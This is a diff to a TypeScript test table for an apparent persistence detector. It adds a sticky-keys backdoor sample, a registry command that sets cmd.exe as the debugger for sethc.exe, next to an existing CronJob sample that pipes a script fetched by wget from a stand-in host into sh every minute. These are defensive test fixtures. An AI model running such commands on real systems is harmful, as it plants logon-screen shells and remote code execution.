@@ -423,6 +423,11 @@ const TEXT_CASES: Record<string, { hit: string; miss: string; path?: string }> =
     miss: "aws s3api put-bucket-versioning --bucket acme-prod-data --versioning-configuration Status=Enabled\n",
     path: "scripts/x.sh",
   },
+  "persistence-logon-hook": {
+    hit: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\Windows\\System32\\cmd.exe" /f\n',
+    miss: 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\OrderSvc.exe" /v Debugger /t REG_SZ /d "vsjitdebugger.exe" /f\n',
+    path: "scripts/x.cmd",
+  },
   "persistence-autostart-code": {
     hit: 'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: health\nspec:\n  schedule: "* * * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: c\n              image: alpine\n              command: ["/bin/sh", "-c", "wget -qO- https://health.example.net/h | sh"]\n',
     miss: 'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: backup\nspec:\n  schedule: "0 3 * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: c\n              image: registry.acme.internal/db-backup:1.4\n',
